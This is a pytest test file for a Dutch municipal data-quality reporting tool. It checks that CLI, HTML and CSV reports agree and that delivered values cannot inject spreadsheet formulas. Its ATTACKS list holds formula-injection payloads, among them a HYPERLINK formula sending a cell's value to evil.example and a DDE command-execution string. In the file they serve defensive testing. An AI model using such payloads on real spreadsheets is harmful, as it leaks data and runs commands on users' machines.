"""The quality report says what to fix, the same way in the CLI, the HTML and the CSV (issue 15),
and its CSV never carries a spreadsheet formula (issue 13, item 5)."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from clearinghouse import reports
from clearinghouse.intake import check_file
from clearinghouse.outcome import FileOutcome
from clearinghouse.reports import write_report
from gmsd.cli import app
from tests.fixtures.deliveries import fake_bsns, wmo_row
from vocabulary.periode import Periode

H1 = Periode.parse("2025-H1")
ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "=cmd|' /C calc'!A0", "@SUM(1)", "+SUM(1+1)", "-2+3"]
runner = CliRunner()


def _csv_cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


def _write(tmp_path: Path, rows: list[dict], name: str = "GM0358_2025-H1_wmo.csv") -> Path:
    path = tmp_path / name
    pd.DataFrame(rows).to_csv(path, sep=";", index=False)
    return path


def test_formulas_in_delivered_values_are_neutralised_in_the_csv_report(tmp_path):
    rows = [wmo_row(b, herkomst="NL") for b in fake_bsns(40)]
    for row, attack in zip(rows, ATTACKS):
        row["herkomst"] = attack  # a waarschuwing: the value is shown in the report
    rows[-1]["voorziening"] = "=1+1"  # a fout
    path = _write(tmp_path, rows)
    outcome = check_file(path, domein="wmo", gemeente_code="GM0358", periode=H1, key=None, geography=None)
    write_report(outcome, gemeente_code="GM0358", periode="2025-H1", base=tmp_path / "rapport")
    cells = [cell for row in _csv_cells(tmp_path / "rapport.csv") for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    shown = set(cells)
    for attack in ATTACKS:
        assert "'" + attack[:60] in shown, attack  # shown, but inert
    html = (tmp_path / "rapport.html").read_text(encoding="utf-8")
    assert "<script" not in html and "=HYPERLINK(&#34;http://evil.example" in html  # escaped in the HTML


def test_a_formula_in_a_header_is_neutralised_too(tmp_path):
    rows = [{("=SUM(A1)" if k == "datum_einde" else k): v for k, v in wmo_row(b).items()} for b in fake_bsns(5)]
    path = _write(tmp_path, rows)
    outcome = check_file(path, domein="wmo", gemeente_code="GM0358", periode=H1, key=None, geography=None)
    write_report(outcome, gemeente_code="GM0358", periode="2025-H1", base=tmp_path / "rapport")
    cells = [cell for row in _csv_cells(tmp_path / "rapport.csv") for cell in row]
    assert outcome.regel == "kolom_ontbreekt"
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]


def _check(tmp_path: Path, rows: list[dict], name: str = "GM0358_2025-H1_wmo.csv"):
    path = _write(tmp_path, rows, name)
    result = runner.invoke(app, ["check", str(path), "--gemeente", "GM0358", "--periode", "2025-H1", "--rapport", str(tmp_path / "r")])
    html = (tmp_path / "r.html").read_text(encoding="utf-8")
    cells = _csv_cells(tmp_path / "r.csv")
    return result, html, cells


def _verdict_sentence(output: str) -> str:
    return " ".join(output.split()).split(".")[0]


@pytest.mark.parametrize(
    "case, exit_code",
    [("goed", 0), ("afwijkingen", 1), ("te-veel-fouten", 2), ("kolom-ontbreekt", 2), ("andere-gemeente", 2), ("onleesbaar", 2)],
)
def test_cli_html_and_csv_agree_for_every_verdict(tmp_path, case, exit_code):
    bsns = fake_bsns(100)
    rows = [wmo_row(b) for b in bsns]
    if case == "afwijkingen":
        rows[0]["voorziening"] = "99"
        rows[1]["postcode"] = "12345"
    elif case == "te-veel-fouten":
        for row in rows[:60]:
            row["datum_start"] = "gisteren"
    elif case == "kolom-ontbreekt":
        rows = [{("EINDDATUM" if k == "datum_einde" else k): v for k, v in row.items()} for row in rows]
    elif case == "andere-gemeente":
        rows[3]["gemeentecode"] = "GM0363"
    if case == "onleesbaar":
        path = tmp_path / "GM0358_2025-H1_wmo.csv"
        path.write_bytes(b"%PDF-1.7 geen tabel")
        result = runner.invoke(app, ["check", str(path), "--gemeente", "GM0358", "--periode", "2025-H1", "--rapport", str(tmp_path / "r")])
        html, cells = (tmp_path / "r.html").read_text(encoding="utf-8"), _csv_cells(tmp_path / "r.csv")
    else:
        result, html, cells = _check(tmp_path, rows)
    assert result.exit_code == exit_code, result.output
    sentence = " ".join(result.output.split()).split("\n")[0]
    summary = cells[1][5]  # the CSV's first row after the header: the verdict
    assert cells[1][3] == "oordeel" and summary in " ".join(result.output.split())
    assert summary in " ".join(re.sub(r"<[^>]+>", " ", html).split())
    assert sentence.startswith(summary.split(":")[0])
    if exit_code == 2:
        # The file-level reason is in the CSV too (before: only a header), and the counts agree.
        reasons = [row for row in cells[1:] if row[3] not in ("oordeel", "kolom_onbekend") and not row[0]]
        assert len(reasons) == 1 and reasons[0][4] == "fout" and len(reasons[0][5]) > 20
        assert "0 gebruikt" in summary or "geen regels gelezen" in summary
    if case == "te-veel-fouten":
        assert "60 met een fout" in summary and "100 niet gebruikt" in summary  # not "0 afgekeurd"
        assert len([row for row in cells if row[3] == "datum_start_onleesbaar"]) == 60
    if case == "afwijkingen":
        assert "99 gebruikt" in summary and "1 met een fout" in summary and "1 met alleen een waarschuwing" in summary


def test_the_report_names_who_what_when_and_what_now(tmp_path):
    rows = [wmo_row(b) for b in fake_bsns(100)]
    rows[0]["voorziening"] = "99"
    rows[1].update(datum_start="2025-03-01", datum_einde="2025-02-01")
    rows[2]["datum_start"] = "31-02-2025"
    _, html, cells = _check(tmp_path, rows)
    text = " ".join(re.sub(r"<[^>]+>", " ", html).split())
    for fragment in ("Aalsmeer (GM0358)", "1e halfjaar 2025 (2025-H1)", "Wmo", "GM0358_2025-H1_wmo.csv", "Nederlandse tijd",
                     "Wat nu?", "kan zo worden aangeleverd", "5 %-regel", "Waarschuwingen tellen hiervoor niet mee"):
        assert fragment in text, fragment
    assert re.search(r"Gecontroleerd op \d{2}-\d{2}-\d{4} \d{2}:\d{2}", text)
    # unknown code: every allowed code with its meaning, and a link to the dictionary entry
    assert "`18` overige beschermd wonen en opvang" not in text and "18 overige beschermd wonen en opvang" in text
    assert 'href="#woordenboek-voorziening"' in html and 'id="woordenboek-voorziening"' in html
    # end before start shows both dates; a bad date shows the value as read and the formats
    assert "datum_start: 2025-03-01; datum_einde: 2025-02-01" in text
    assert "31-02-2025" in text and "JJJJMMDD" in text
    by_rule = {row[3]: row for row in cells[1:]}
    assert by_rule["einde_na_start"][1] == "datum_start, datum_einde" and by_rule["einde_na_start"][0] == "3"


def test_columns_are_named_as_delivered(tmp_path):
    rows = [{k.upper(): v for k, v in wmo_row(b).items()} for b in fake_bsns(40)]
    rows[0]["VOORZIENING"] = "99"
    _, html, cells = _check(tmp_path, rows)
    finding = [row for row in cells if row[3] == "voorziening_code"][0]
    assert finding[1] == "VOORZIENING" and "`VOORZIENING`" in finding[5]
    assert "<code>VOORZIENING</code>" in html


def test_every_message_is_one_sentence_style(tmp_path):
    rows = [wmo_row(b) for b in fake_bsns(60)]
    rows[0]["voorziening"] = "99"
    rows[1]["geslacht"] = "Q"
    rows[2]["bsn"] = ""
    rows[3]["datum_einde"] = "2025-01-01"
    rows[4]["huisnummer"] = "nul"
    _, _, cells = _check(tmp_path, rows)
    for row in cells[1:]:
        melding = row[5]
        assert melding[0].isupper() and melding.rstrip().endswith("."), melding


def test_the_summary_per_rule_and_the_examples_are_those_pandas_would_choose():
    """`_per_rule` and `_examples` work on plain dicts (fast for a thousand small reports); they must
    pick and order exactly what value_counts / groupby-head / a stable sort pick."""
    rules = [("fout", "bsn_elfproef", "bsn", "BSN klopt niet."), ("waarschuwing", "postcode_formaat", "postcode", "Postcode."),
             ("fout", "datum_start_verplicht", "datum_start", "Leeg."), ("waarschuwing", "geslacht_code", "geslacht", "Code.")]
    picks = [0, 1, 1, 3, 2, 1, 0, 3, 3, 1, 2] * 3
    failures = pd.DataFrame({
        "rij": [100 - i for i in range(len(picks))],
        "kolom": [rules[p][2] for p in picks], "waarde": ["*****1234"] * len(picks),
        "regel": [rules[p][1] for p in picks], "ernst": [rules[p][0] for p in picks], "melding": [rules[p][3] for p in picks],
    })  # fmt: skip
    outcome = FileOutcome("wmo", "x.csv", None, failures=failures)
    records = failures.to_dict("records")
    expected = (
        failures.value_counts(["ernst", "regel", "kolom", "melding"], sort=False).rename("aantal").reset_index()
        .sort_values(["ernst", "aantal"], ascending=[True, False], kind="stable")
    )  # fmt: skip
    got = reports._per_rule(outcome, records)
    assert [{k: r[k] for k in ("ernst", "regel", "kolom", "melding", "aantal")} for r in got] == expected.to_dict("records")
    examples = failures.groupby(["regel", "kolom"], sort=False, group_keys=False).head(reports.EXAMPLES_PER_RULE)
    assert reports._examples(records) == examples.sort_values(["rij", "ernst"], kind="stable").to_dict("records")


def test_the_csv_report_is_the_csv_of_its_rows_as_a_frame(tmp_path):
    """The report's CSV is written from plain rows; it must be the CSV of `report_rows()`, the frame
    of the same rows (verdict, findings about the file, every row finding, formulas neutralised)."""
    rows = [wmo_row(b, herkomst="NL") for b in fake_bsns(40)]
    for row, attack in zip(rows, ATTACKS):
        row["herkomst"] = attack
    rows[-1]["voorziening"] = "=1+1"
    rows[-2]["bsn"] = "12345678"
    rows = [{**row, "kosten_eur": "=12,50"} for row in rows]  # a column misspelt: a finding about the file
    path = _write(tmp_path, rows)
    outcome = check_file(path, domein="wmo", gemeente_code="GM0358", periode=H1, key=None, geography=None)
    assert outcome.failure_records() == outcome.failures.to_dict("records") and len(outcome.failure_records()) >= 7
    assert outcome.bestandsmeldingen
    write_report(outcome, gemeente_code="GM0358", periode="2025-H1", base=tmp_path / "rapport")
    from vocabulary import files

    expected = files.write_csv(outcome.report_rows(), tmp_path / "frame.csv", dutch=True).read_bytes()
    assert (tmp_path / "rapport.csv").read_bytes() == expected
